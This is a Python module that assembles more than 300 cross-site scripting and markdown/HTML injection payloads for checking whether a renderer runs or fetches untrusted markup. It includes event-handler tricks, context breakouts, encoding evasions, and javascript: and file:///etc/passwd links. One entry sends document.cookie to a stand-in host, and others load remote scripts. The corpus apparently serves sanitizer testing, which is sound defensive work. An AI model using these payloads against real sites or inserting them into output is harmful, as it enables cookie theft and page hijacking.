"""Strings that run code, fetch something or change the page where a browser takes them for markup.

Put together from what browsers run, ways out of the place where a text stands, and ways to write the same
otherwise. Each marks the window with `__ran`, or asks `PROBE` for something, so that both can be seen.
"""

from __future__ import annotations

from itertools import chain, product
from typing import Final

HOST: Final = "probe.invalid"
PROBE: Final = f"http://{HOST}"
RUN: Final = "window.__ran=(window.__ran||0)+1"

_CORE: Final = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<details open ontoggle="{RUN}">a</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<iframe srcdoc="<script>parent.{RUN.replace("window.", "").replace("||", "|")}</script>"></iframe>',
)
_HANDLERS: Final = (
    f'<body onload="{RUN}">',
    f'<body onpageshow="{RUN}">',
    f'<video src={PROBE}/v onerror="{RUN}"></video>',
    f'<audio src={PROBE}/a onerror="{RUN}"></audio>',
    f'<video><source src={PROBE}/s onerror="{RUN}"></video>',
    f'<object data="{PROBE}/o"></object>',
    f'<embed src="{PROBE}/e">',
    f'<link rel=stylesheet href="{PROBE}/l.css">',
    f'<link rel=prefetch href="{PROBE}/p">',
    f'<style>@import "{PROBE}/i.css";</style>',
    f"<style>*{{background:url({PROBE}/b)}}</style>",
    f'<div style="background-image:url({PROBE}/d)">a</div>',
    f'<meta http-equiv=refresh content="0;url={PROBE}/m">',
    f'<base href="{PROBE}/">',
    f'<form action="{PROBE}/f"><button autofocus onfocus="{RUN}">a</button></form>',
    f'<textarea autofocus onfocus="{RUN}">a</textarea>',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}" tabindex=1>a</a>',
    f'<div contenteditable autofocus onfocus="{RUN}">a</div>',
    f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{RUN}">a</p>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><set onbegin="{RUN}" attributeName=x></svg>',
    f'<svg><image href="{PROBE}/g" onerror="{RUN}"/></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<marquee onstart="{RUN}">a</marquee>',
    f'<img srcset="{PROBE}/r 2x" src="{PROBE}/r1">',
    f'<picture><source srcset="{PROBE}/q"><img src=x onerror="{RUN}"></picture>',
    f'<input type=image src="{PROBE}/t" onerror="{RUN}">',
    f'<table background="{PROBE}/k"><tr><td>a</table>',
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<script src="{PROBE}/s.js"></script>',
    f'<script type=module>import "{PROBE}/m.js"</script>',
    f'<script>fetch("{PROBE}/x",{{method:"POST",body:document.cookie}})</script>',
    f'<script>document.body.innerHTML="";{RUN}</script>',
    f'<script>localStorage.setItem("x",1);{RUN}</script>',
    f'<iframe src="{PROBE}/w"></iframe>',
    f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
    f'<frameset onload="{RUN}"><frame></frameset>',
    f'<button popovertarget=x autofocus onfocus="{RUN}">a</button>',
    f'<dialog open onfocusin="{RUN}"><button autofocus>a</button></dialog>',
)
_WAYS_OUT: Final = (
    "\">", "'>", "`>", "</p>", "</textarea>", "</title>", "</style>", "</script>", "-->", "<!--><", "]]>",
    "</span></div>", "\\\">", "{{1}}", "${1}", "&quot;>", "\n\n", "\n\n- ", "\n\n> ", "\n\n# ", "| a |\n|---|\n| ",
    "</noscript>", "</code></pre>", "\x0b", "\u2028",
)  # fmt: skip
_SCHEMES: Final = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java&#115;cript:{RUN}",
    f"&#x6A;avascript:{RUN}", f"javascript&colon;{RUN}", f"vbscript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"{PROBE}/link.png", f"//{HOST}/rel.png",
    f"\\\\{HOST}\\unc.png", "file:///etc/passwd",
)  # fmt: skip
_LINKS: Final = (
    "[a]({})", "![a]({})", "[![a]({0})]({0})", "<{}>", "[a]: {}\n\n[a]", "![a][b]\n\n[b]: {}", '[a]({} "b")',
    '<a href="{}">a</a>', '<img src="{}">', "$$\\href{{{}}}{{a}}$$", "[^1]\n\n[^1]: ![a]({})",
)  # fmt: skip


def _otherwise(text: str) -> tuple[str, ...]:
    """Return a payload written in other ways that some renderer, somewhere, reads as the same."""
    return (
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#60;").replace(">", "&#62;"),
        text.replace("<", "&amp;lt;"),
        text.replace("<", "%3C").replace(">", "%3E"),
        text.replace("<", "\\u003c").replace(">", "\\u003e"),
        text.replace("<", "\uff1c").replace(">", "\uff1e"),
        text.replace("<", "<\u200b"),
        text.replace("<", "<\x00"),
        text.replace(" ", "/"),
        text.replace("<s", "<S").replace("<i", "<I").replace("on", "oN"),
        f"`{text}`",
        f"```html\n{text}\n```",
        f'```mermaid\ngraph TD; a["{text}"]\n```',
        f"<<{text}",
    )


PAYLOADS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        chain(
            _CORE,
            _HANDLERS,
            (way + core for way, core in product(_WAYS_OUT, _CORE[:3])),
            chain.from_iterable(map(_otherwise, _CORE)),
            (link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
        )
    )
)
"""Each once; more than 300."""


def grouped(size: int) -> list[tuple[str, ...]]:
    """Return the payloads in their order, `size` at a time."""
    return [PAYLOADS[place : place + size] for place in range(0, len(PAYLOADS), size)]
